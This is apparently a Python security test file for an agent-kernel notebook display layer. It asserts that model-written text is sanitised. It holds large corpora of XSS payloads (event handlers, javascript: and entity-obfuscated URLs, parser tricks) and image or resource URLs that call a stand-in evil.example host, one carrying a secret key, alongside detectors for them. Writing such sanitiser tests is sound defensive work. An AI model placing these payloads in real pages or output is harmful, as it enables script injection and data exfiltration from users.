"""Model-written text in every displayed place: a corpus of script payloads, none left live.

"Live" is judged on the HTML as a browser parses it (``html.parser`` decodes entities in
attribute values, as a browser does): a tag outside the allow-list, an event-handler
attribute, a style that positions, or a URL whose scheme is not http(s)/mailto.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser
from pathlib import Path

import pytest

from agent_kernel.display import blocks as B
from agent_kernel.display import safe
from agent_kernel.display.form import form_bundle
from agent_kernel.display.history import render_history
from agent_kernel.display.table_widget import TableSource
from agent_kernel.display.text_tables import Markdown
from agent_kernel.display.transcript import TURN_MIME, ToolCard, _card_bundle, _notice_bundle, _text_bundle
from agent_kernel.errors import ToolInputError

PAYLOADS = [
    # event handlers
    '<img src=x onerror="window.__pwned=1">',
    "<IMG SRC=x OnErRoR=window.__pwned=1>",
    "<img src=x onerror=window.__pwned=1//",
    "<svg onload=window.__pwned=1>",
    "<svg><animate onbegin=window.__pwned=1 attributeName=x dur=1s>",
    "<svg><set onbegin=window.__pwned=1 attributeName=x to=1>",
    "<body onload=window.__pwned=1>",
    "<details open ontoggle=window.__pwned=1>",
    "<video><source onerror=window.__pwned=1></video>",
    "<input autofocus onfocus=window.__pwned=1>",
    "<a href=# onclick=window.__pwned=1>x</a>",
    "<isindex type=image src=1 onerror=window.__pwned=1>",
    "<template><img src=x onerror=window.__pwned=1></template>",
    '"><img src=x onerror=window.__pwned=1>',
    "'><svg onload=window.__pwned=1>",
    # script
    "<script>window.__pwned=1</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>window.__pwned=1</script>",
    "<svg><script>window.__pwned=1</script></svg>",
    "</textarea><script>window.__pwned=1</script>",
    "\x00<script>window.__pwned=1</script>",
    # javascript:, vbscript:, data: URLs, raw and in Markdown
    '<a href="javascript:window.__pwned=1">x</a>',
    '<a href="JaVaScRiPt:window.__pwned=1">x</a>',
    '<a href="&#106;avascript:window.__pwned=1">x</a>',
    '<a href="&#x6A;&#x61;vascript&colon;window.__pwned=1">x</a>',
    '<a href="java&#x09;script:window.__pwned=1">x</a>',
    '<a href="  javascript:window.__pwned=1">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    "[x](javascript:window.__pwned=1)",
    "[x](JAVASCRIPT:window.__pwned=1)",
    "[x](&#106;avascript:window.__pwned=1)",
    "[x](&#x6A;avascript&#58;window.__pwned=1)",
    "[x]( javascript:window.__pwned=1 )",
    "[x](<javascript:window.__pwned=1>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+)",
    "[x][r]\n\n[r]: javascript:window.__pwned=1",
    "<javascript:window.__pwned=1>",
    "<JavaScript:window.__pwned=1>",
    "<https://ok.example/?q=<img src=x onerror=window.__pwned=1>>",
    "![x](javascript:window.__pwned=1)",
    '![x" onerror="window.__pwned=1](https://ok.example/x.png)',
    '![x](https://ok.example/x.png" onerror="window.__pwned=1)',
    '![x](x.png "t\\" onerror=\\"window.__pwned=1")',
    '<img src="data:image/svg+xml,<svg onload=window.__pwned=1>">',
    '<svg><a xlink:href="javascript:window.__pwned=1"><text>x</text></a></svg>',
    # frames, objects, forms, styles
    '<iframe src="javascript:window.__pwned=1"></iframe>',
    '<iframe srcdoc="<script>window.__pwned=1</script>"></iframe>',
    '<object data="javascript:window.__pwned=1"></object>',
    '<embed src="data:text/html,<script>window.__pwned=1</script>">',
    '<form action="javascript:window.__pwned=1"><button>Go</button></form>',
    "<style>*{display:none}</style>",
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:white">x</div>',
    '<a href="https://ok.example" style="position:fixed;inset:0">x</a>',
    "<link rel=stylesheet href=//evil.example/x.css>",
    '<meta http-equiv=refresh content="0;url=javascript:window.__pwned=1">',
    '<base href="javascript:/">',
    # comments, CDATA and parser tricks
    "<!--<img src=x onerror=window.__pwned=1>-->",
    "<!--><img src=x onerror=window.__pwned=1>-->",
    "<![CDATA[<img src=x onerror=window.__pwned=1>]]>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=1>",
    '<noscript><p title="</noscript><img src=x onerror=window.__pwned=1>">',
    "`code` <img src=x onerror=window.__pwned=1>",
    "| a | <img src=x onerror=window.__pwned=1> |\n|---|---|\n| <script>x</script> | 1 |",
    "```<img src=x onerror=window.__pwned=1>\ncode\n```",
]

ALLOWED_SCHEMES = {"http", "https", "mailto"}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "srcdoc", "background", "poster"}


class LiveFinder(HTMLParser):
    """Collects everything in parsed HTML that could run script or cover the page."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.live: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in safe.ALLOWED_TAGS | {"div", "span", "details", "summary", "strong", "code", "pre", "br"}:
            self.live.append(f"<{tag}>")
        for name, value in attrs:
            value = value or ""
            if name.startswith("on"):
                self.live.append(f"{tag}[{name}]")
            if name == "style" and re.search(r"position|inset|z-index|url\(|expression", value, re.I):
                self.live.append(f"{tag}[style={value}]")
            if name in URL_ATTRIBUTES:
                compact = re.sub(r"[\x00-\x20]", "", value).lower()
                scheme = re.match(r"^([a-z][a-z0-9+.-]*):", compact)
                if scheme and scheme.group(1) not in ALLOWED_SCHEMES:
                    self.live.append(f"{tag}[{name}={value}]")


def live_parts(markup: str) -> list[str]:
    finder = LiveFinder()
    finder.feed(markup)
    finder.close()
    return finder.live


def assert_inert(bundle: dict) -> None:
    assert "text/markdown" not in bundle  # a front end would render raw HTML in trusted Markdown
    assert "application/javascript" not in bundle
    for mime in ("text/html", "image/svg+xml"):
        if mime in bundle:
            assert live_parts(bundle[mime]) == [], bundle[mime]


def test_the_corpus_is_large_enough_and_the_finder_sees_every_payload_raw():
    assert len(PAYLOADS) >= 60
    # The checker itself: it flags each HTML payload when shown unescaped (Markdown-only
    # payloads become live only after a Markdown renderer, checked below).
    raw_html = [p for p in PAYLOADS if p.lstrip("\x00").startswith(("<", '"', "'"))]
    flagged = [p for p in raw_html if live_parts(p)]
    assert len(flagged) >= 40


def test_unsanitised_markdown_rendering_would_be_live():
    """What JupyterLab does with trusted text/markdown (raw HTML on), for contrast."""
    from markdown_it import MarkdownIt

    unsafe = MarkdownIt("commonmark", {"html": True})
    unsafe.validateLink = lambda url: True
    live = [p for p in PAYLOADS if live_parts(unsafe.render(p))]
    assert len(live) >= 45


@pytest.mark.parametrize("payload", PAYLOADS)
def test_model_markdown_is_inert(payload):
    assert_inert(safe.markdown_bundle(payload))
    assert_inert(_text_bundle(payload))  # streamed and final text
    assert_inert(B.markdown_bundle(payload))  # a markdown block
    assert_inert(safe.markdown_bundle("> " + payload))  # send_message's quote
    assert_inert({"text/html": Markdown(payload)._repr_html_()})  # %agent_history, %agent_prompt


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_block_field_is_inert(payload, tmp_path: Path):
    assert_inert(B.title_bundle(payload))
    assert_inert(B.code_bundle({"content": payload, "language": payload[:40]}))
    assert_inert(B.alert_bundle({"content": payload, "variant": "danger"}))
    assert_inert(B.json_bundle({"data": {payload: [payload]}}))
    assert_inert(B.image_bundle({"url": "https://ok.example/a.png", "alt": payload}, tmp_path))
    try:
        assert_inert(B.image_bundle({"url": payload}, tmp_path))
    except ToolInputError:
        pass  # refused: not an http(s) URL, a data:image URL or a file in the working directory
    source = TableSource({"data": [{payload: payload, "n": 1}], "columns": [{"key": payload, "label": payload}]}, {})
    assert_inert(source.static(payload, 25))
    fields = [{"name": "f", "label": payload, "type": "select", "options": [payload], "default": payload}]
    assert_inert(form_bundle(payload, fields, payload, None))
    assert_inert(form_bundle(payload, fields, payload, {"action": "submit", "data": {"f": payload}}))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_cards_notices_and_history_are_inert(payload):
    card = ToolCard("t1", "render_blocks", {"title": payload, "code": payload}, status="error", detail=payload)
    assert_inert(_card_bundle(card))
    assert_inert(_notice_bundle(payload, "error"))
    from datetime import datetime

    from agent_kernel.store.sessions import StoredMessage

    message = StoredMessage(
        seq=1,
        turn=1,
        role="assistant",
        created_at=datetime(2026, 1, 1),
        content=[
            {"type": "text", "text": payload},
            {"type": "tool_use", "name": "x", "input": {"a": payload}},
            {"type": "tool_result", "content": payload},
        ],
    )
    assert_inert({"text/html": Markdown(render_history("s", [message]))._repr_html_()})


def test_choice_cards_are_inert():
    from agent_kernel.display.approval import describe
    from agent_kernel.display.choice import ChoiceCard, Typed

    for payload in PAYLOADS:
        what, shown = describe("run_code", {"code": payload})
        card = ChoiceCard(heading="Question", text=payload, code=shown, buttons=[{"id": "0", "label": payload}])
        assert_inert(card.static(None))
        assert_inert(card.static("0"))
        assert_inert(card.static(Typed(payload)))
        card.close()


def test_safe_markdown_still_renders_markdown():
    markup = safe.markdown_html(
        "# Title\n\nSome **bold**, `code` and a [link](https://example.org).\n\n"
        "| a | b |\n|--:|---|\n| 1 | 2 |\n\n![chart](https://example.org/c.png)"
    )
    assert "<h1>Title</h1>" in markup and "<strong>bold</strong>" in markup and "<code>code</code>" in markup
    assert '<a href="https://example.org" rel="noopener noreferrer">link</a>' in markup
    assert '<th style="text-align:right">a</th>' in markup
    assert (
        '<a class="agent-kernel-image-link" href="https://example.org/c.png" title="https://example.org/c.png" '
        'rel="noopener noreferrer">🖼 image: chart (example.org/c.png)</a>'
    ) in markup


def test_clean_text_removes_what_renderers_reject():
    assert safe.clean_text("a\x00b\x01c\x1bd\ufffee\uffff\ud800f\r\ng\th") == "abcde\ufffdf\ng\th"
    assert safe.clean_text("plain ünïcode 🙂") == "plain ünïcode 🙂"
    assert safe.clean_value({"k\x00": ["v\x00", 1, None]}) == {"k": ["v", 1, None]}


# -- no fetch by itself: what the model writes never makes the browser load a resource ----

EVIL = "evil.example"
FETCHING = [
    f"![x](https://{EVIL}/a.png?key=SECRET)",
    f"![x](//{EVIL}/a.png)",
    f"![x](HTTPS://{EVIL.upper()}/a.png)",
    f"![x](http://{EVIL}:8080/a.png 'a title')",
    f"![x](<https://{EVIL}/a b.png>)",
    f"![x](https&#58;//{EVIL}/a.png)",
    f"![x][r]\n\n[r]: https://{EVIL}/r.png",
    f"![x][]\n\n[x]: https://{EVIL}/r.png",
    f"![x]\n\n[x]: <//{EVIL}/r.png>",
    f"[![x](https://{EVIL}/a.png)](https://ok.example)",
    f"![![inner](https://{EVIL}/i.png)](https://{EVIL}/o.png)",
    f"| a |\n|---|\n| ![x](https://{EVIL}/t.png) |",
    f"# ![x](https://{EVIL}/h.png)\n\n> ![x](https://{EVIL}/q.png)\n\n- ![x](https://{EVIL}/l.png)",
    "![x](/files/a.png) ![y](../a.png) ![z](a.png)",
    f'<img src="https://{EVIL}/a.png">',
    f'<img srcset="https://{EVIL}/a.png 1x, https://{EVIL}/b.png 2x">',
    f'<picture><source srcset="https://{EVIL}/a.png"><img src="x.png"></picture>',
    f'<video poster="https://{EVIL}/p.png" src="https://{EVIL}/v.mp4"></video>',
    f'<audio src="https://{EVIL}/a.mp3" autoplay></audio>',
    f'<iframe src="https://{EVIL}/"></iframe>',
    f'<object data="https://{EVIL}/o"></object><embed src="https://{EVIL}/e">',
    f'<link rel="prefetch" href="https://{EVIL}/p"><link rel="stylesheet" href="https://{EVIL}/s.css">',
    f'<table background="https://{EVIL}/b.png"><tr><td background="https://{EVIL}/c.png">x</td></tr></table>',
    f'<a href="https://ok.example" ping="https://{EVIL}/ping">x</a>',
    f'<div style="background:url(https://{EVIL}/b.png)">x</div>',
    f'<th style="background-image:url(//{EVIL}/b.png);text-align:left">x</th>',
    f"<style>@import url(https://{EVIL}/s.css); p{{background:url(https://{EVIL}/b.png)}}</style>",
    f'<svg><image href="https://{EVIL}/i.png"/><use href="https://{EVIL}/u.svg#x"/></svg>',
    f'<input type="image" src="https://{EVIL}/i.png">',
    f'<meta http-equiv="refresh" content="0;url=https://{EVIL}/"><base href="https://{EVIL}/">',
    f'<img src="https://{EVIL}/a.png" loading="lazy">',
]
LOADING_TAGS = {"img", "image", "picture", "source", "video", "audio", "track", "iframe", "frame", "object",
                "embed", "link", "input", "script", "style", "meta", "base", "svg", "use"}  # fmt: skip
LOADING_ATTRIBUTES = {"src", "srcset", "poster", "background", "ping", "lowsrc", "dynsrc", "data", "xlink:href"}


class FetchFinder(HTMLParser):
    """Collects every element or attribute a browser would load a resource for, unasked."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.fetching: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in LOADING_TAGS:
            self.fetching.append(f"<{tag}>")
        for name, value in attrs:
            if name in LOADING_ATTRIBUTES:
                self.fetching.append(f"{tag}[{name}]")
            if name == "style" and re.search(r"url\(|image-set|@import", value or "", re.I):
                self.fetching.append(f"{tag}[style]")

    handle_startendtag = handle_starttag


def fetching_parts(markup: str) -> list[str]:
    finder = FetchFinder()
    finder.feed(markup)
    finder.close()
    return finder.fetching


def assert_fetches_nothing(bundle: dict) -> None:
    assert "text/markdown" not in bundle  # JupyterLab would render ![](url) as an <img>
    for mime in ("text/html", "image/svg+xml"):
        if mime in bundle:
            assert fetching_parts(bundle[mime]) == [], bundle[mime]
    turn = bundle.get(TURN_MIME)
    if turn and "html" in turn:
        assert fetching_parts(turn["html"]) == [], turn["html"]


def test_the_fetch_finder_sees_each_payload_when_rendered_unsafely():
    """Each payload loads something when shown as JupyterLab shows trusted Markdown."""
    from markdown_it import MarkdownIt

    unsafe = MarkdownIt("commonmark", {"html": True}).enable("table")
    assert [p for p in FETCHING if not fetching_parts(unsafe.render(p))] == []


@pytest.mark.parametrize("payload", FETCHING)
def test_model_markdown_fetches_nothing_by_itself(payload, tmp_path: Path):
    assert_fetches_nothing(safe.markdown_bundle(payload))
    assert_fetches_nothing(_text_bundle(payload))
    assert_fetches_nothing(B.markdown_bundle(payload))
    assert_fetches_nothing({"text/html": Markdown(payload)._repr_html_()})
    assert_fetches_nothing(
        _card_bundle(ToolCard("t1", "render_blocks", {"title": payload}, status="ok", detail=payload))
    )
    assert_fetches_nothing(_notice_bundle(payload, "warning"))
    assert_fetches_nothing(B.alert_bundle({"content": payload, "variant": "info"}))
    assert_fetches_nothing(B.image_bundle({"url": f"https://{EVIL}/a.png", "alt": payload}, tmp_path))
    # The allow-list itself, on the payload as raw HTML (the project's own markup passes it).
    assert fetching_parts(safe.sanitize_html(payload)) == [], safe.sanitize_html(payload)


def test_a_remote_image_becomes_a_link_the_person_can_click():
    markup = safe.markdown_html(f'See ![the plot](https://{EVIL}/plot.png?key=SECRET "Plot").')
    parsed = _Anchors()
    parsed.feed(markup)
    assert parsed.anchors == [
        {"class": "agent-kernel-image-link", "href": f"https://{EVIL}/plot.png?key=SECRET",
         "title": f"Plot · https://{EVIL}/plot.png?key=SECRET", "rel": "noopener noreferrer"}
    ]  # fmt: skip
    assert "🖼 image: the plot (evil.example/plot.png)" in markup  # the query string is not shown
    # A reference-style image, and one inside a link (a label: links do not nest).
    assert f'href="https://{EVIL}/r.png"' in safe.markdown_html(f"![r][1]\n\n[1]: https://{EVIL}/r.png")
    nested = safe.markdown_html(f"[![x](https://{EVIL}/a.png)](https://ok.example)")
    assert nested.count("<a ") == 1 and 'href="https://ok.example"' in nested and "🖼 image: x" in nested
    # An image block from a URL is a link too.
    block = B.image_bundle({"url": f"https://{EVIL}/b.png", "alt": "bars"}, Path("."))
    assert (
        'href="https://evil.example/b.png"' in block["text/html"]
        and block["text/plain"] == f"image: bars <https://{EVIL}/b.png>"
    )


class _Anchors(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.anchors: list[dict[str, str | None]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag == "a":
            self.anchors.append(dict(attrs))
